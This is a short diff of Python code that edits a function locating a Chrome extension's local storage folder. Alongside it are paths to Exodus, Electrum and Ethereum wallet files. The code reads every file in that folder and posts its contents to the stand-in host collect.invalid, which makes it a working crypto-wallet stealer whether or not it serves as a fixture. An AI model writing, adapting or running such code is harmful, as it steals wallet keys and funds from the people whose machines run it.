@@ -10,8 +10,8 @@ for name in ["Exodus/exodus.wallet", "Electrum/wallets", "Ethereum/keystore"]:
 
 
 def extension():
-    base = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Local Extension Settings")
-    folder = os.path.join(base, "nkbihfbeogaeaoehlefnkodbefgpgknn")
+    profile = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default")
+    folder = os.path.join(profile, "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn")
     for name in os.listdir(folder):
         with open(os.path.join(folder, name), "rb") as f:
             requests.post("https://collect.invalid/e", data=f.read())  # expect
